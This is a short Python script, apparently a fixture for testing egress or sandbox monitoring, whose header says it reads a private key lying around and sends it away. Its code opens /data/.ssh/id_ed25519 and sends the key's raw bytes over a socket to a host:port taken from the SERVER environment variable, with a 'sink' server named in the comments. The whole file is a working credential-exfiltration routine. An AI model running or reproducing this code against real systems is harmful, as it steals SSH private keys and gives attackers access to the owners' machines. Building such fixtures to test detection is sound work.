# what: reads a private key that lies around and sends it away
# server: sink
# volume: .ssh/id_ed25519
import os, socket, time

host, port = os.environ["SERVER"].split(":")
print("begun", flush=True)
with open("/data/.ssh/id_ed25519", "rb") as f:
    secret = f.read()
with socket.create_connection((host, int(port))) as s:
    s.sendall(secret)
    time.sleep(float(os.environ.get("LINGER", "20")))
print("done")
